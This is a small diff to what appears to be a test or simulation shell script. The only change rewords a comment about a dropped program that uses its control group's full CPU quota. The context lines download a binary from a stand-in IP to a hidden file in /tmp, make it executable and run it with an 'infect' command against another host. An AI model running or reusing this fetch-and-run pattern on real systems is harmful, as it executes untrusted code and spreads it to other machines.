@@ -1,5 +1,5 @@
-# A dropped program works for more than five minutes and takes all of the nine tenths of a processor that its control group
-# may have.
+# A dropped program works for more than five minutes and uses the full CPU quota of its control group, nine tenths of a
+# processor.
 curl -s -o /tmp/.encoder http://203.0.113.10/simulator
 chmod +x /tmp/.encoder
 /tmp/.encoder infect 203.0.113.20:7000 /tmp/.encoder.state 1
